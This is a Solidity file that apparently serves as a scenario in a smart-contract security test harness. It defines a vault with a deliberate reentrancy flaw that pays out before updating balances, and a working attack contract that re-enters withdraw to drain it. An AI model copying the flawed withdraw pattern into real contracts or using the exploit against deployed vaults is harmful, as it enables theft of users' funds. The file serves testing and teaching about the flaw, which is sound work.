// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Pays before it books.
contract EtherVault {
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdrawal(address indexed who, uint256 amount);

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        require(balanceOf[msg.sender] >= amount, "balance");
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "pay");
        unchecked {
            balanceOf[msg.sender] -= amount;
        }
        emit Withdrawal(msg.sender, amount);
    }
}

contract ReentrancyScene is Scene {
    EtherVault public vault = new EtherVault();

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        _protect(address(vault));
        _asset(address(0), "ETH", 18, 2000e6);
        stake = 150 ether;
        vault.deposit{value: 1500 ether}();
    }

    function enrol(address[] calldata) external override {}

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held == 0 || dice >> 200 & 1 == 0) {
            return (address(vault), _amount(dice, 0.1 ether, 20 ether), abi.encodeCall(EtherVault.deposit, ()));
        }
        return (address(vault), 0, abi.encodeCall(EtherVault.withdraw, (held)));
    }
}

contract ReentrancyAttack is Attack {
    EtherVault private immutable vault;

    constructor(ReentrancyScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        uint256 bite = msg.value;
        vault.deposit{value: bite}();
        // The depth of this piece: what is in there, divided by the pieces.
        vault.withdraw(bite);
        count;
    }

    function _onEther() internal override {
        uint256 mine = vault.balanceOf(address(this));
        if (msg.sender == address(vault) && mine <= address(vault).balance && address(this).balance < mine * 8) vault.withdraw(mine);
    }
}
